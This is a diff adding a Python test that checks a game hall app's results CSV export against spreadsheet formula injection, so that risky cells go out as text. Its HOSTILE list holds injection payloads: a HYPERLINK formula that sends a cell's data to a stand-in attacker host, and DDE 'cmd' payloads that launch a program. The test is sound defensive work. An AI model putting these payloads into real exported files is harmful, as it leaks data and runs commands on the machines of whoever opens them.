@@ -157,3 +157,58 @@ def test_hall_settings_survive_the_settings_screens_save(tmp_path: Path) -> None
     assert load_settings(tmp_path / "s.toml").hall == settings.hall
     with pytest.raises(ConfigError, match=r"hall\.tls"):
         with_values(settings, hall={"tls": "yes"})
+
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
+           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
+           "  =1+1", "Asha"]  # fmt: skip
+
+
+def test_results_csv_writes_no_cell_a_spreadsheet_would_run(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Player, team and table names are the tables' to choose: a cell that begins with
+    = + - @ (or tab or CR) goes out with an apostrophe before it, read as text."""
+    from kiosk.hall import results
+
+    a, b = HOSTILE[0], HOSTILE[1]
+    carrom = [
+        {
+            "hall": "h",
+            "table": "t1",
+            "match": "-1",
+            "players": [a, b],
+            "games_won": {a: 2, b: 0},
+            "winner": a,
+            "finished": True,
+            "chain": [b],
+        }
+    ]
+    backgammon = [
+        {
+            "hall": "h",
+            "table": "@t2",
+            "match": "1",
+            "players": HOSTILE[2:4],
+            "score": {HOSTILE[2]: 1},
+            "winner": HOSTILE[3],
+            "finished": True,
+            "chain": [],
+        }
+    ]
+    standings = [{"place": 1, "shared": False, "team": name, "name": name, "games": -3,
+                  "master": 5, "bonus": 0, "best": 1} for name in HOSTILE]  # fmt: skip
+    monkeypatch.setattr(results, "carrom_results", lambda record: carrom)
+    monkeypatch.setattr(results, "backgammon_results", lambda record: backgammon)
+    monkeypatch.setattr(results, "bhukhar_standings", lambda record: {"standings": standings})
+    record = HallRecord(tmp_path / "hall.db")
+    text = results.results_csv(record)
+    record.close()
+    rows = list(csv.reader(io.StringIO(text, newline="")))
+    cells = [c for row in rows for c in row]
+    texts = [c for c in cells if c != "-3"]  # a number is no formula: written as it is
+    assert all(not c.lstrip().startswith(("=", "+", "-", "@")) for c in texts), cells
+    assert all(not c.startswith(("\t", "\r")) for c in cells), cells
+    # Shown as written, the apostrophe aside; numbers stay numbers.
+    assert "'" + a in cells and "'" + HOSTILE[4] in cells and "Asha" in cells
+    assert "'-1" in cells and "-3" in cells
